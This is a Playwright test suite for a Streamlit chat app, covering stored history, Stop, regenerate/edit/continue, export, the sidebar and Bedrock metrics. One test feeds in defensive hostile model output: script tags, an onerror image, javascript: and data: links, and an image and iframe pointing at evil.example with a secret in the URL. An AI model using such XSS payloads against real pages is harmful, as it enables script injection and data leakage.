"""The chat product in a real headless Chromium: history that lasts, Stop, regenerate / edit /
continue, export, the sidebar, and hostile model output.

The scripted replay provider drives Stop timing, export and hostile output (the point there is our
layer); the real embedded model drives the main paths (Stop freeing it, regenerate, edit, continue).
"""

from __future__ import annotations

import itertools
import json
import os
import re
import subprocess
import time
from pathlib import Path
from urllib.parse import urlparse

import pytest
from playwright.sync_api import expect

from conftest import ROOT, free_port, streamlit_command, wait_http
from response_streaming.store import Store

pytestmark = pytest.mark.browser
STORY = "Write a story about two cats that go on an adventure:"


def visible_text(s: str) -> str:
    """Compare what a reader sees: Markdown punctuation and whitespace differences aside."""
    return re.sub(r"[\s*_`#>~\\|▌-]+", " ", s).strip()


def history(tmp_path) -> Store:
    return Store(f"sqlite:///{tmp_path / 'data' / 'history.sqlite3'}")


def go(page):
    return page.get_by_role("button", name="Go", exact=True)


def send(page, prompt: str) -> None:
    page.locator(".st-key-input textarea").fill(prompt)
    go(page).click()


def answer_text(page) -> str:
    try:
        return page.locator(".st-key-answer").last.inner_text(timeout=2000)
    except Exception:  # the element is being replaced by a rerun
        return ""


def only_conversation(store: Store) -> str:
    convs = store.list_conversations()
    assert len(convs) == 1, convs
    return convs[0]["id"]


def wait_for(condition, timeout: float = 120, what: str = "condition"):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}")


def settled(store: Store, answers: int, timeout: float = 120):
    """Wait until the (only) conversation holds `answers` finished answers; returns its messages."""

    def done():
        convs = store.list_conversations()
        if not convs:
            return None
        msgs = store.messages(convs[0]["id"])
        finished = [m for m in msgs if m.role == "assistant" and m.status != "streaming"]
        return msgs if len(finished) == answers and not store.busy(convs[0]["id"]) else None

    return wait_for(done, timeout, f"{answers} stored answers")


def address(page) -> str:
    return page.evaluate("location.href")  # page.url can lag behind Streamlit's history.replaceState


def shows(page, message=None) -> None:
    """The page has finished drawing the last answer (with its actions, Go back on); it reads as stored."""
    expect(page.locator(".st-key-actions")).to_be_visible(timeout=60_000)
    expect(go(page)).to_be_enabled(timeout=60_000)
    if message is not None:
        wait_for(
            lambda: visible_text(answer_text(page)) == visible_text(message.content),
            30,
            "the stored answer on the page",
        )


@pytest.fixture()
def app(tmp_path):
    """Streamlit servers on the test's data directory that a test may stop (a restart)."""
    procs: dict[str, subprocess.Popen] = {}

    def start(**settings) -> str:
        port = free_port()
        env = {k: v for k, v in os.environ.items() if not k.startswith("RS_")}
        env.update({"RS_DATA_DIR": str(tmp_path / "data")}, **{f"RS_{k.upper()}": str(v) for k, v in settings.items()})
        proc = subprocess.Popen(
            streamlit_command(port),
            cwd=ROOT,
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        url = f"http://127.0.0.1:{port}"
        procs[url] = proc
        wait_http(f"{url}/_stcore/health", proc=proc)
        return url

    def stop(url: str) -> None:
        proc = procs.pop(url)
        proc.terminate()
        proc.wait(15)

    start.stop = stop
    yield start
    for proc in procs.values():
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()


def test_history_survives_a_reload_and_a_server_restart(app, page, tmp_path):
    url = app(provider="replay", replay_rate=200)
    page.goto(url)
    send(page, "Tell me about the two cats")
    [_, answer] = settled(history(tmp_path), 1)
    shows(page, answer)
    cid = only_conversation(history(tmp_path))
    assert f"c={cid}" in address(page)  # the conversation is in the address: a reload or a shared link finds it

    page.reload()
    shows(page, answer)
    expect(page.get_by_text("Tell me about the two cats").first).to_be_visible()

    app.stop(url)
    url = app(provider="replay")
    page.goto(f"{url}/?c={cid}")
    shows(page, answer)
    expect(page.locator(".stChatMessage")).to_have_count(2)
    expect(page.get_by_role("button", name="Tell me about the two cats")).to_be_visible()  # listed in the sidebar


def test_stop_keeps_what_was_shown_and_stores_it_as_stopped(streamlit_server, page, tmp_path):
    story = " ".join(f"word{i}" for i in range(400))
    url = streamlit_server(provider="replay", replay_rate=10, replay_text=story)
    page.goto(url)
    send(page, "Count slowly")
    wait_for(lambda: len(visible_text(answer_text(page))) > 40, 60, "some streamed text")
    live_metrics = page.get_by_text(re.compile(r"^streaming · first token \d+ ms · [\d.]+ tokens/s · \d+ out"))
    expect(live_metrics).to_be_visible()  # metrics under the answer while it streams
    expect(go(page)).to_be_disabled()  # no second stream meanwhile
    page.locator(".st-key-stop").get_by_role("button", name="Stop").click()
    clicked = time.monotonic()
    samples = []
    while time.monotonic() - clicked < 3.0:
        samples.append((time.monotonic() - clicked, visible_text(answer_text(page))))
        time.sleep(0.03)
    seen = [(t, text) for t, text in samples if text]
    changes = [t for (t, a), (_, b) in itertools.pairwise(seen) if b != a]
    assert not changes or changes[-1] <= 0.5, f"the answer still grew {changes[-1]:.2f} s after Stop"

    [_, stopped] = settled(history(tmp_path), 1, 30)
    assert stopped.status == "stopped"
    assert 0 < len(stopped.content) < len(story)
    assert visible_text(stopped.content) == seen[-1][1]  # what was kept is what the reader saw
    expect(page.get_by_text("Stopped: the answer above is partial.")).to_be_visible()
    expect(go(page)).to_be_enabled()
    expect(page.get_by_role("button", name="Continue")).to_be_visible()


def test_stop_on_the_local_model_frees_it_for_the_next_answer(streamlit_server, page, tmp_path):
    url = streamlit_server(provider="local", max_tokens=300, temperature=0, n_ctx=2048, queue_size=0)
    page.goto(url)
    send(page, STORY)
    wait_for(lambda: len(visible_text(answer_text(page))) >= 5, 120, "the first words of the answer")
    page.locator(".st-key-stop").get_by_role("button", name="Stop").click()
    [_, stopped] = settled(history(tmp_path), 1, 60)
    assert stopped.status == "stopped" and stopped.content.strip()
    assert stopped.meta["metrics"]["output_tokens"] < 300
    shows(page, stopped)

    # queue_size=0: had the stopped stream kept the model, this request would be refused as busy.
    # A short answer this time (set in the sidebar): the chat model would otherwise write 300 tokens.
    page.get_by_text("Parameters").click()
    page.get_by_label("Max tokens").fill("12")
    page.get_by_label("Max tokens").press("Enter")
    page.locator(".st-key-input textarea").fill("Say hello:")
    go(page).click()
    msgs = settled(history(tmp_path), 2, 180)
    assert msgs[-1].status in ("complete", "stopped") and not msgs[-1].error, msgs[-1]
    assert msgs[-1].status == "complete"


def test_leaving_a_conversation_mid_answer_keeps_it_being_written(streamlit_server, page, tmp_path):
    story = " ".join(f"word{i}" for i in range(400))
    url = streamlit_server(provider="replay", replay_rate=10, replay_text=story)
    page.goto(url)
    send(page, "Count slowly")
    wait_for(lambda: len(visible_text(answer_text(page))) > 40, 60, "some streamed text")
    store = history(tmp_path)
    cid = only_conversation(store)
    page.get_by_role("button", name="New chat").click()  # leaves the conversation mid-answer: nothing stops
    expect(page.locator(".stChatMessage")).to_have_count(0)
    left = len(visible_text(answer_text(page)))
    assert store.busy(cid) and store.messages(cid)[-1].status == "streaming"
    page.get_by_role("button", name="Count slowly").click()  # back to it: the answer is there, still growing
    wait_for(lambda: len(visible_text(answer_text(page))) > max(left, 60), 60, "the answer, re-attached")
    page.locator(".st-key-stop").get_by_role("button", name="Stop").click()  # only Stop ends it
    [_, kept] = settled(store, 1, 30)
    assert kept.status == "stopped" and kept.content.startswith("word0 word1")
    shows(page, kept)
    expect(page.get_by_text("Stopped: the answer above is partial.")).to_be_visible()
    assert not store.busy(cid)


def test_regenerate_edit_and_continue_on_the_local_model(streamlit_server, page, tmp_path):
    # 8 tokens cut this story mid-sentence, so Continue has words to add (the embedded base model
    # continues in place, and may rightly stop at once after a finished sentence).
    url = streamlit_server(provider="local", max_tokens=8, temperature=0, n_ctx=2048)
    page.goto(url)
    store = history(tmp_path)
    send(page, "Once upon a time, in a small village by the sea, there lived")
    [_, first] = settled(store, 1)
    shows(page, first)

    cid = only_conversation(store)

    # Continue: offered when the answer was cut at max tokens; the same answer grows.
    assert first.meta["metrics"]["stop_reason"] == "max_tokens", first.meta
    page.get_by_role("button", name="Continue").click()
    wait_for(
        lambda: len(store.messages(cid)[-1].content) > len(first.content) and not store.busy(cid),
        120,
        "the continued answer",
    )
    [_, grown] = store.messages(cid)
    assert grown.id == first.id and grown.content.startswith(first.content.rstrip())
    assert len(grown.meta["parts"]) == 2
    shows(page, grown)

    # Regenerate: the answer is replaced (one answer, a new row), the prompt stays.
    page.get_by_role("button", name="Regenerate").click()
    wait_for(lambda: store.messages(cid)[-1].id != grown.id and not store.busy(cid), 120, "a regenerated answer")
    [prompt, again] = store.messages(cid)
    assert prompt.content.startswith("Once upon a time") and again.content.strip() and again.status != "error"
    shows(page, again)

    # Edit: the last prompt comes back into the box; Go replaces it and its answer.
    page.get_by_role("button", name="Edit").click()
    box = page.locator(".st-key-input textarea")
    expect(box).to_have_value(prompt.content)
    box.fill("The capital of France is")
    go(page).click()
    wait_for(
        lambda: (
            store.messages(cid)[0].content == "The capital of France is"
            and len(store.messages(cid)) == 2
            and not store.busy(cid)
        ),
        120,
        "the edited turn",
    )
    [_, answer] = store.messages(cid)
    assert answer.role == "assistant" and answer.content.strip()
    shows(page, answer)
    expect(page.locator(".stChatMessage")).to_have_count(2)
    expect(page.locator(".stChatMessage").get_by_text("Once upon a time, in a small village")).to_have_count(0)


def test_export_markdown_and_json_downloads(streamlit_server, page, tmp_path):
    url = streamlit_server(provider="replay", replay_rate=200, max_tokens=30)
    page.goto(url)
    send(page, "Tell me a story")
    [_, answer] = settled(history(tmp_path), 1)
    shows(page, answer)
    page.get_by_text("This conversation").click()

    with page.expect_download() as md_download:
        page.get_by_role("button", name="Markdown").click()
    md = Path(md_download.value.path()).read_text(encoding="utf-8")
    assert md_download.value.suggested_filename == "tell-me-a-story.md"
    assert md.startswith("# Tell me a story\n") and "## You\n\nTell me a story" in md
    assert answer.content in md and "## Assistant (replay · replay)" in md

    with page.expect_download() as json_download:
        page.get_by_role("button", name="JSON").click()
    data = json.loads(Path(json_download.value.path()).read_text(encoding="utf-8"))
    assert data["title"] == "Tell me a story" and data["id"] == only_conversation(history(tmp_path))
    assert [(m["role"], m["status"]) for m in data["messages"]] == [("user", "complete"), ("assistant", "complete")]
    exported = data["messages"][1]
    assert exported["content"] == answer.content and exported["provider"] == "replay"
    assert exported["params"]["max_tokens"] == 30 and exported["metrics"]["output_tokens"] == 30
    expect(go(page)).to_be_enabled()  # a download does not rerun the page

    page.get_by_role("button", name="Copy").click()  # the copy box holds the answer's Markdown
    expect(page.locator("[data-testid=stCode]").last).to_contain_text(answer.content.split()[0])


def test_sidebar_new_switch_rename_search_and_delete(streamlit_server, page, tmp_path):
    url = streamlit_server(provider="replay", replay_rate=200, max_tokens=8)
    page.goto(url)
    store = history(tmp_path)
    send(page, "First question about cats")
    wait_for(lambda: len(store.list_conversations()) == 1 and not store.busy(store.list_conversations()[0]["id"]))
    expect(go(page)).to_be_enabled(timeout=30_000)
    page.get_by_role("button", name="New chat").click()
    expect(page.locator(".stChatMessage")).to_have_count(0)
    send(page, "Second question about dogs")
    wait_for(
        lambda: (
            len(store.list_conversations()) == 2
            and all(len(store.messages(c["id"])) == 2 for c in store.list_conversations())
        )
    )
    expect(go(page)).to_be_enabled(timeout=30_000)
    first, second = sorted(store.list_conversations(), key=lambda c: c["title"])

    # Switch: the page and its address follow.
    page.get_by_role("button", name="First question about cats").click()
    expect(page.get_by_text("First question about cats").last).to_be_visible()
    wait_for(lambda: f"c={first['id']}" in address(page), 10, "the address to follow")

    # Search by title.
    page.get_by_placeholder("Search titles").fill("DOGS")
    page.get_by_placeholder("Search titles").press("Enter")
    expect(page.get_by_role("button", name="Second question about dogs")).to_be_visible()
    expect(page.get_by_role("button", name="First question about cats")).to_have_count(0)
    page.get_by_placeholder("Search titles").fill("")
    page.get_by_placeholder("Search titles").press("Enter")

    # Rename.
    page.get_by_text("This conversation").click()
    title = page.get_by_label("Title", exact=True)
    title.fill("Cats, renamed")
    title.press("Enter")
    wait_for(lambda: store.get_conversation(first["id"])["title"] == "Cats, renamed", 10, "the new title")
    expect(page.get_by_role("button", name="Cats, renamed")).to_be_visible()

    # Delete asks first; Cancel keeps it, Delete removes it everywhere.
    page.get_by_role("button", name="Delete…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("can't be undone")
    dialog.get_by_role("button", name="Cancel").click()
    expect(dialog).to_have_count(0)
    assert store.get_conversation(first["id"]) is not None
    page.get_by_role("button", name="Delete…").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    wait_for(lambda: store.get_conversation(first["id"]) is None, 10, "the deletion")
    expect(page.get_by_role("button", name="Cats, renamed")).to_have_count(0)
    expect(page.locator(".stChatMessage")).to_have_count(0)
    assert [c["id"] for c in store.list_conversations()] == [second["id"]] and store.messages(first["id"]) == []


HOSTILE = "\n\n".join(
    [
        "Here is my answer.",
        "<script>window.__pwned = 'script'; alert('script')</script>",
        "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
        "[click me](javascript:window.__pwned='link';alert('link'))",
        "[or me](JaVaScRiPt&#58;alert('entity'))",
        "![tracker](https://evil.example/leak.png?secret=42)",
        '<iframe src="https://evil.example/frame"></iframe>',
        "[data link](data:text/html,<script>alert('data')</script>)",
        "Costs $5 or $10, see `<b>code</b>`.",
        "W" * 4000,
        "The end.",
    ]
)


def test_hostile_output_runs_no_script_and_fetches_nothing(streamlit_server, page, tmp_path):
    url = streamlit_server(provider="replay", replay_rate=40, replay_text=HOSTILE)
    dialogs, requests = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))
    page.goto(url)
    send(page, "Say something nasty")
    seen_live = wait_for(lambda: "click me" in answer_text(page) and answer_text(page), 60, "the live answer")
    [_, answer] = settled(history(tmp_path), 1)
    assert answer.content == HOSTILE  # stored as the model sent it; only the page view is neutralised
    shows(page)

    box = page.locator(".st-key-answer").last
    assert "<script>" in seen_live and "<img src=x" in box.inner_text()  # shown as text, not parsed
    assert box.locator("script, img, iframe").count() == 0
    hrefs = [a.get_attribute("href") or "" for a in box.locator("a").all()]
    assert "https://evil.example/leak.png?secret=42" in hrefs  # the image is a link the reader may open
    assert not any(h.lower().startswith(("javascript", "data", "vbscript")) for h in hrefs), hrefs
    box.get_by_role("link", name="click me").click()
    box.get_by_role("link", name="or me").click()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None and dialogs == []
    assert "$5 or $10" in box.inner_text() and "<b>code</b>" in box.inner_text()
    width, inner = box.evaluate("e => [e.scrollWidth, e.clientWidth]")
    assert width <= inner + 2, "a very long line must wrap, not widen the page"
    hosts = {urlparse(u).hostname for u in requests if urlparse(u).scheme in ("http", "https", "ws", "wss")}
    assert hosts == {"127.0.0.1"}, sorted(u for u in requests if urlparse(u).hostname != "127.0.0.1")


def test_a_bedrock_answer_shows_its_metrics_and_estimated_cost(streamlit_server, page, tmp_path, monkeypatch):
    """Real boto3 in the app, against a loopback fake of the Bedrock runtime that reports usage."""
    from bedrock_fake import FakeBedrock, converse_reply

    for key, value in {
        "AWS_ACCESS_KEY_ID": "AKIDFAKEFAKEFAKE",
        "AWS_SECRET_ACCESS_KEY": "fake-secret",
        "AWS_CONFIG_FILE": str(tmp_path / "none"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"),
        "AWS_EC2_METADATA_DISABLED": "true",
    }.items():
        monkeypatch.setenv(key, value)
    with FakeBedrock() as fake:
        fake.push(converse_reply(["Hello", " from", " a", " fake", " Bedrock."], usage=(1200, 5)))
        url = streamlit_server(
            provider="bedrock", model="amazon.nova-lite-v1:0", aws_region="us-east-1", bedrock_endpoint_url=fake.url
        )
        page.goto(url)
        send(page, "Hello?")
        [_, answer] = settled(history(tmp_path), 1, 60)
        shows(page, answer)
    assert answer.content == "Hello from a fake Bedrock." and answer.meta["provider"] == "bedrock"
    # Nova Lite: 1200 input tokens at $0.06/M + 5 output tokens at $0.24/M = $0.0000732.
    line = page.get_by_text(re.compile("1200 in / 5 out"))
    expect(line).to_contain_text("≈ $0.000073 · amazon.nova-lite-v1:0 (bedrock)")
    expect(line).to_contain_text(re.compile(r"^first token \d+ ms"))


def test_a_long_conversation_opens_at_its_end_and_a_click_on_go_resends_none_of_it(streamlit_server, page, tmp_path):
    """100 messages: the page shows the latest 40; Go streams the answer without re-sending any earlier
    message over the websocket (only the last turn and the composer rerun); export has everything."""
    import base64

    store = history(tmp_path)
    cid = store.create_conversation("A long chat")
    for i in range(50):
        store.add_message(cid, "user", f"Question m{2 * i:03d}x: tell me **more**.")
        store.add_message(cid, "assistant", f"Answer m{2 * i + 1:03d}x with `code` and [a link](https://example.com).")
    url = streamlit_server(provider="replay", replay_rate=200, replay_text="A short answer " * 10)
    frames: list[bytes] = []

    def on_frame(event):
        data = event["response"]["payloadData"]
        frames.append(base64.b64decode(data) if event["response"]["opcode"] == 2 else data.encode())

    cdp = page.context.new_cdp_session(page)
    cdp.on("Network.webSocketFrameReceived", on_frame)
    cdp.send("Network.enable")
    page.goto(f"{url}/?c={cid}")
    expect(page.locator(".stChatMessage")).to_have_count(40)
    expect(page.get_by_text("60 earlier messages not shown.")).to_be_visible()
    expect(page.get_by_text("Answer m099x")).to_be_visible()
    expect(go(page)).to_be_enabled()
    assert any(b"m060x" in f for f in frames)  # the capture sees the page's messages

    # A sidebar parameter set without a rerun still reaches the model from the part that reruns alone.
    page.get_by_text("Parameters").click()
    max_tokens = page.get_by_label("Max tokens")
    max_tokens.fill("7")
    max_tokens.press("Enter")
    frames.clear()
    send(page, "One more question")
    msgs = settled(store, 51)
    shows(page, msgs[-1])
    assert msgs[-1].meta["params"]["max_tokens"] == 7 and msgs[-1].meta["metrics"]["output_tokens"] == 7
    sent = b"".join(frames)
    assert b"One more question" in sent and b"short answer" in sent
    assert not [f"m{i:03d}x" for i in range(98) if f"m{i:03d}x".encode() in sent], "earlier messages were re-sent"

    page.get_by_role("button", name="Show 40 earlier").click()
    expect(page.locator(".stChatMessage")).to_have_count(80)
    page.get_by_text("This conversation").click()
    with page.expect_download() as md_download:
        page.get_by_role("button", name="Markdown").click()
    md = Path(md_download.value.path()).read_text(encoding="utf-8")
    assert all(f"m{i:03d}x" in md for i in range(100)) and "One more question" in md
